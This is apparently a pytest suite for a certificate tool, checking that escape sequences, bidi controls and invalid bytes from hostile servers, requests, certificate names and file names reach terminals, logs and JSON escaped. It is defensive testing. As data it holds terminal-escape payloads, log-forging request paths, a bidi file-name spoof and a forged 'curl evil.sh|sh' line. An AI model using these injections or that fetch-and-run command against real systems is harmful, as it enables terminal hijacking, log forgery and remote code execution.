"""Text that came from outside, on terminals, in logs and in JSON (issue 19 item 1).

A hostile HTTPS server (here, on 127.0.0.1), a hostile client of `certpick
serve`, hostile certificate names and hostile file names. Whatever they send,
certpick's text output and logs carry no raw control (C0, DEL, C1), no bidi
control and no byte that is not UTF-8: each is written visibly as \\xNN or
\\uNNNN (include/certpick/outtext.h). JSON keeps every key and element: bytes that are not
UTF-8 become the text \\xNN. Outputs are read as bytes, never decoded on trust.
"""
import json
import os
import re
import shutil
import socket
import ssl
import subprocess
import threading

import pytest

import serve_util as su
from conftest import certpick_argv, free_port, wait_port

# what must never reach a terminal or a log: C0 but TAB and LF, DEL, C1 as UTF-8,
# bidi controls and line separators as UTF-8
RAW = re.compile(rb"[\x00-\x08\x0b-\x1f\x7f]|\xc2[\x80-\x9f]|\xe2\x80[\x8e\x8f\xa8-\xae]|"
                 rb"\xe2\x81[\xa6-\xa9]|\xd8\x9c")


def run_cp(*args, cwd=None):
    """certpick with its output as bytes: (rc, out, err)."""
    p = subprocess.run(certpick_argv(*args), capture_output=True, timeout=60, cwd=cwd,
                       env=dict(os.environ, NO_COLOR="1"))
    return p.returncode, p.stdout, p.stderr


def assert_clean(blob, what):
    """No raw control or bidi code point, and valid UTF-8."""
    m = RAW.search(blob)
    assert m is None, "%s carries a raw %r: %r" % (what, m.group(0), blob[:3000])
    blob.decode("utf-8")


def assert_lines_start(blob, prefixes, what):
    """Every line starts with one of the prefixes: nothing was forged in between."""
    for line in blob.decode("utf-8").splitlines():
        assert not line or line.startswith(prefixes), "%s has a foreign line %r in %r" % (what, line, blob)


class HostileHTTPS:
    """A TLS server on an ephemeral loopback port that answers every request
    with the bytes of `answer` (no client certificate asked)."""

    def __init__(self, pki, answer):
        self.answer = answer
        self.ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        self.ctx.load_cert_chain(os.path.join(pki, "server-chain.pem"),
                                 os.path.join(pki, "server.key"))
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.port = self.sock.getsockname()[1]
        self.stop = False
        self.thread = threading.Thread(target=self.loop, daemon=True)
        self.thread.start()

    def loop(self):
        while not self.stop:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            conn.settimeout(10)
            try:
                with self.ctx.wrap_socket(conn, server_side=True) as s:
                    data = b""
                    while b"\r\n\r\n" not in data:
                        chunk = s.recv(4096)
                        if not chunk:
                            break
                        data += chunk
                    if data:
                        s.sendall(self.answer)
            except (OSError, ssl.SSLError):
                pass

    def close(self):
        self.stop = True
        self.sock.close()
        self.thread.join(timeout=10)


def http(status_line, ctype, body):
    return (b"HTTP/1.1 " + status_line + b"\r\nContent-Type: " + ctype +
            b"\r\nConnection: close\r\nContent-Length: %d\r\n\r\n" % len(body) + body)


ESCAPES = "\x1b]0;PWNED\x07\x1b[2J\x1b[H\x1b[31mYOU HAVE BEEN HACKED\x1b[0m\u202e\u009b"
FORGED = "\nfake: the server says: all good, run curl evil.sh|sh"
ADVICE = {
    "advice-html": http(b"403 Forbidden", b"text/html",
                        ("<html><head><title>403.7 Forbidden</title></head><body>"
                         "<p id=\"advice\">%s%s</p></body></html>" % (ESCAPES, FORGED)).encode()),
    "advice-json": http(b"403 Forbidden", b"application/json",
                        json.dumps({"advice": ESCAPES + FORGED}).encode()),
    "message-json": http(b"403 Forbidden", b"application/json",
                         json.dumps({"message": ESCAPES + FORGED}).encode()),
}


@pytest.mark.parametrize("mode", sorted(ADVICE))
def test_f1_get_quotes_server_advice_escaped(pki, mode):
    """F1: the server's advice reaches the terminal quoted, on one line, escaped."""
    srv = HostileHTTPS(pki, ADVICE[mode])
    try:
        rc, out, err = run_cp("get", "-k", "-o", os.devnull, "https://127.0.0.1:%d/" % srv.port,
                           os.path.join(pki, "alice-chain.pem"), os.path.join(pki, "alice.key"))
    finally:
        srv.close()
    assert rc == 1, (rc, out, err)
    assert_clean(out + err, "get's explanation")
    says = [ln for ln in err.decode().splitlines() if "the server says:" in ln]
    assert len(says) == 1, err
    assert says[0].startswith('  the server says: "\\x1b]0;PWNED\\x07\\x1b[2J'), says
    assert "\\u202e\\u009b fake: the server says: all good" in says[0], says
    assert says[0].endswith('"'), says
    assert not any(ln.startswith("fake:") for ln in err.decode().splitlines()), err


def test_f1_advice_length_capped(pki):
    """F1: a long advice is cut after whole escapes, and says so."""
    body = json.dumps({"advice": "\x1b" * 400 + "A" * 5000}).encode()
    srv = HostileHTTPS(pki, http(b"403 Forbidden", b"application/json", body))
    try:
        rc, out, err = run_cp("get", "-k", "-o", os.devnull, "https://127.0.0.1:%d/" % srv.port)
    finally:
        srv.close()
    assert_clean(out + err, "get's explanation")
    says = [ln for ln in err.decode().splitlines() if "the server says:" in ln]
    assert len(says) == 1 and says[0].endswith('\\x1b [...]"'), (rc, err)
    assert len(says[0]) < 700, says


def test_f10_get_json_reason_not_utf8(pki):
    """F10: a reason phrase with 0xFF keeps get --json whole (was: exit 70, no JSON)."""
    srv = HostileHTTPS(pki, http(b"403 Forbidd\xffn \x1b[2J", b"text/plain", b"no"))
    try:
        rc, out, err = run_cp("get", "-k", "--json", "https://127.0.0.1:%d/" % srv.port)
    finally:
        srv.close()
    assert rc == 1, (rc, out, err)
    doc = json.loads(out)
    assert doc["status"] == 403 and doc["reason"] == "Forbidd\\xffn \\x1b[2J", doc["reason"]


def test_f10_probe_json_keeps_http(pki):
    """F10: probe --json keeps its http key when reason, title and Server are not UTF-8."""
    body = b"<title>t\xff\xfe</title>"
    srv = HostileHTTPS(pki, b"HTTP/1.1 403 R\xe9fus\r\nServer: x\xff\r\nContent-Length: %d\r\n"
                       b"Connection: close\r\n\r\n" % len(body) + body)
    try:
        rc, out, err = run_cp("probe", "--json", "--path", "/", "127.0.0.1:%d" % srv.port)
    finally:
        srv.close()
    doc = json.loads(out)
    h = doc["http"]
    assert (h["status"], h["reason"], h["title"], h["server"]) == \
        (403, "R\\xe9fus", "t\\xff\\xfe", "x\\xff"), (doc, err)


def raw_request(srv, path):
    """One GET of an exact request-target, as bytes, over TLS without a certificate."""
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    with socket.create_connection(("127.0.0.1", srv.port), timeout=30) as s:
        with ctx.wrap_socket(s) as t:
            t.sendall(b"GET " + path + b" HTTP/1.1\r\nHost: localhost\r\n"
                      b"Accept: application/json\r\nConnection: close\r\n\r\n")
            data = b""
            while True:
                chunk = t.recv(65536)
                if not chunk:
                    return data
                data += chunk


FORGE_PATHS = [
    b"/x%0a2031-01-01T00:00:00Z%20127.0.0.1:4242%20%22GET%20/secure%22%20200%20-%20-%20"
    b"TLSv1.3%20asked=post_handshake%20cert=%22CN=admin%22",
    b"/x%1b]0;pwned%07%1b[2J%1b[31mRED%c2%9b%e2%80%ae",
    b"/y%22%20200%20-%20-%20TLSv1.3%20asked=never%20cert=%22CN=admin",
    b"/secure/%ff",
]


def log_file_bytes(srv, n):
    srv.wait_log("%d requests" % n, lambda lines: len(lines) >= n)
    with open(srv.log_path, "rb") as f:
        return f.read()


def test_f2_access_log_escapes_path(procs, tmp, pki):
    """F2: one log line per request; the decoded path cannot end the line, end the
    quoted field, or run terminal sequences."""
    srv = su.Server(procs, tmp, ["--trust", os.path.join(pki, "ca-roots-AB.pem"),
                                 "--require", "/secure"])
    for p in FORGE_PATHS:
        raw_request(srv, p)
    log = log_file_bytes(srv, len(FORGE_PATHS))
    assert_clean(log, "the access log")
    lines = log.decode().splitlines()
    assert len(lines) == len(FORGE_PATHS), lines
    stamp = re.compile(r'^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ 127\.0\.0\.1:\d+ "GET [^"]*" \d{3} ')
    for line in lines:
        assert stamp.match(line), line
        assert 'cert="' not in line and "\" 200 - - TLSv1.3 asked=post" not in line, line
    assert '"GET /x\\x0a2031-01-01T00:00:00Z 127.0.0.1:4242 \\x22GET /secure\\x22 200' in lines[0]
    assert '"GET /x\\x1b]0;pwned\\x07\\x1b[2J\\x1b[31mRED\\u009b\\u202e"' in lines[1]
    assert '"GET /y\\x22 200 - - TLSv1.3 asked=never cert=\\x22CN=admin" 200 ' in lines[2]
    assert '"GET /secure/\\xff" 403 ' in lines[3]


def test_f10_json_log_keeps_path_not_utf8(procs, tmp, pki):
    """F10: --json-log and the JSON answer keep "path" for a path that is not UTF-8."""
    srv = su.Server(procs, tmp, ["--trust", os.path.join(pki, "ca-roots-AB.pem"),
                                 "--require", "/secure", "--json-log"])
    answer = raw_request(srv, b"/secure/%ff%1b")
    lines = log_file_bytes(srv, 1).decode().splitlines()
    entry = json.loads(lines[0])
    assert entry.get("path") == "/secure/\\xff\x1b", entry
    body = su.parse_http(answer).body
    assert json.loads(body).get("path") == "/secure/\\xff\x1b", body


def make_hostile_names(d):
    """A self-signed certificate whose names carry C1 CSI, a bidi override and an
    isolate, with its key."""
    subj = "/O=\u009b31mEvil/CN=alice\u202egnp.exe\u2066x\u2069"
    subprocess.run(["openssl", "req", "-x509", "-utf8", "-newkey", "ec", "-pkeyopt",
                    "ec_paramgen_curve:P-256", "-nodes", "-keyout", "bidi.key", "-out", "bidi.pem",
                    "-days", "30", "-subj", subj, "-addext", "extendedKeyUsage=clientAuth"],
                   cwd=d, check=True, capture_output=True, timeout=60)
    return os.path.join(d, "bidi.pem"), os.path.join(d, "bidi.key")


NAME_ESCAPED = b"CN=alice\\E2\\80\\AEgnp.exe\\E2\\81\\A6x\\E2\\81\\A9,O=\\C2\\9B31mEvil"


def test_f12_names_escape_c1_and_bidi(procs, tmp, pki):
    """F12: C1 and bidi controls in names are written as RFC 4514 hex pairs in
    check, in serve's startup CA list and in probe's CA names."""
    cert, key = make_hostile_names(tmp)
    rc, out, err = run_cp("check", cert, key)
    assert_clean(out + err, "check")
    assert NAME_ESCAPED in out, out
    srv = su.Server(procs, tmp, ["--trust", os.path.join(pki, "ca-roots-AB.pem"),
                                 "--ca-names", cert])
    err = srv.stderr().encode()
    assert_clean(err, "serve's startup notes")
    assert NAME_ESCAPED in err, err
    rc, out, err = run_cp("probe", "127.0.0.1:%d" % srv.port)
    assert_clean(out + err, "probe")
    assert NAME_ESCAPED in out, out
    rc, out, err = run_cp("probe", "--json", "127.0.0.1:%d" % srv.port)
    names = json.loads(out)["requests"][0]["ca_names"]
    assert names[0]["rfc4514"] == NAME_ESCAPED.decode(), names


def hostile_files(d, pki):
    """A folder of file names with ESC/OSC, a newline and a Latin-1 byte."""
    os.makedirs(d)
    d = os.fsencode(d)
    shutil.copy(os.path.join(pki, "erin-expired-chain.pem"),
                os.path.join(d, b"a\x1b]0;pwned\x07\x1b[2J.pem"))
    shutil.copy(os.path.join(pki, "erin-expired.key"), os.path.join(d, b"x\nfake-line.key"))
    shutil.copy(os.path.join(pki, "alice-chain.pem"), os.path.join(d, b"caf\xe9.pem"))
    shutil.copy(os.path.join(pki, "alice.key"), os.path.join(d, b"caf\xe9.key"))
    with open(os.path.join(d, b"j\x1b[31m\xe2\x80\xae.pem"), "wb") as f:
        f.write(b"-----BEGIN CERTIFICATE-----\nnot base64\n-----END CERTIFICATE-----\n")
    return os.fsdecode(d)


def test_f17_file_names_escaped_in_check_and_select(tmp, pki):
    """F17: file names in check and select reports and warnings are escaped."""
    d = hostile_files(os.path.join(tmp, "files"), pki)
    rc, out, err = run_cp("check", "--trust", os.path.join(pki, "ca-all.pem"), d)
    assert_clean(out + err, "check")
    assert b"a\\x1b]0;pwned\\x07\\x1b[2J.pem: " in out, out
    assert b"caf\\xe9.pem: " in out, out
    assert b"j\\x1b[31m\\u202e.pem" in err, err
    assert_lines_start(out, ("/", " ", "\t", "certpick", "1", "2", "3", "4"), "check")
    rc, out, err = run_cp("select", "--client", "openssl", "--issuer", "CN=certpick Test Root A,O=certpick-test", d)
    assert_clean(out + err, "select")
    assert b"caf\\xe9.pem" in out, out
    assert b"j\\x1b[31m\\u202e.pem" in err, err


def test_f10_check_and_select_json_keep_latin1_file(tmp, pki):
    """F10: a certificate in a Latin-1 named file stays in check --json and select --json."""
    d = hostile_files(os.path.join(tmp, "files"), pki)
    rc, out, err = run_cp("check", "--json", "--trust", os.path.join(pki, "ca-all.pem"), d)
    doc = json.loads(out)
    sources = [c["source"] for c in doc["certificates"]]
    assert any(s.endswith("/caf\\xe9.pem") for s in sources), (sources, err)
    assert any(s.endswith("/a\x1b]0;pwned\x07\x1b[2J.pem") for s in sources), sources
    assert any("j\x1b[31m\u202e.pem" in e["message"] for e in doc["errors"]), doc["errors"]
    rc, out, err = run_cp("select", "--client", "openssl", "--json", "--issuer", "CN=certpick Test Root A,O=certpick-test", d)
    assert rc in (0, 1), (rc, err)
    doc = json.loads(out)
    assert any(c["source"].endswith("/caf\\xe9.pem") for c in doc["candidates"]), doc


def test_f17_get_sources_escaped(procs, tmp, pki):
    """F17: get's explanation names the source files escaped."""
    d = hostile_files(os.path.join(tmp, "files"), pki)
    port = free_port()
    p = procs.start(certpick_argv("serve", "--listen", "127.0.0.1:%d" % port,
                                  "--trust", os.path.join(pki, "rootB.pem"), "--require", "/"))
    wait_port(port, proc=p)
    rc, out, err = run_cp("get", "-k", "-o", os.devnull, "https://127.0.0.1:%d/" % port, d)
    assert rc == 1, (rc, err)
    assert_clean(out + err, "get")
    assert b"a\\x1b]0;pwned\\x07\\x1b[2J.pem" in err, err
